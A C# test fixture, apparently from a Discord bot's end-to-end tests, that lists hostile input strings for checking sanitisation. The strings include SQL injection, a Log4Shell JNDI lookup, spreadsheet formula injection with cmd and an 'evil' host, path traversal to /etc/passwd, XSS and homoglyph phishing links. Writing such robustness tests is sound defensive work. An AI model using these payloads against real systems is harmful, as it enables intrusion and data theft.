namespace CineBot.EndToEnd.Story;

/// <summary>Words that want to be more than words: mentions, markup, and what other programs would execute. ROLE and USER stand for ids of the server they are said in.</summary>
internal static class HostileWords
{
    public static IReadOnlyList<string> All { get; } =
    [
        "@everyone",
        "@here",
        "<@&ROLE>",
        "<@USER> <@!USER>",
        "@\u202Eeveryone",
        "@\u200Beveryone",
        "`` x` <@everyone> `x ``",
        "</ban:123456789012345678>",
        "<#123456789012345678>",
        "<t:9999999999999:R>",
        "<:x:0> <a:x:18446744073709551615>",
        "[https://cnc.fr](https://evil.example)",
        "[x](<javascript:alert(1)>)",
        "https://\u0430pple.com",
        @"https://evil.example\@cnc.fr",
        "discord.gg/abc discord。gg/abc dis\u00ADcord.gg/abc",
        string.Concat(Enumerable.Repeat("||", 1000)),
        "-# note",
        string.Concat(Enumerable.Repeat("> ", 500)),
        "~~**__*||",
        $"e{new string('\u0301', 500)}",
        $"a{new string('\n', 4000)}b",
        "   ",
        "\u200B",
        "\u3164",
        "a\uD83Db",
        string.Concat(Enumerable.Repeat("👨‍👩‍👧‍👦", 400)),
        "İıß",
        new string('é', 6001),
        "'); DROP TABLE voices;--",
        "% _ %",
        @"\ \% \_",
        "{0} {user} %s ${jndi:ldap://x} {{7*7}}",
        "\r\n[INFO] admin granted",
        "\",\"level\":\"Fatal",
        "=HYPERLINK(\"http://evil\",\"x\") +1+cmd|'/c calc'!A0",
        "\t=1+1 @SUM(1)",
        "../../etc/passwd CON.txt a\0.png",
        "<script>alert(1)</script>",
        $"{new string('[', 3000)}{new string(']', 3000)}",
        "{\"a\":1,\"a\":2}",
    ];

    /// <summary>As much of the words as a field takes; a pair of surrogates is not cut.</summary>
    public static string UpTo(this string words, int units) =>
        words.Length <= units ? words : words[..(char.IsHighSurrogate(words[units - 1]) ? units - 1 : units)];
}
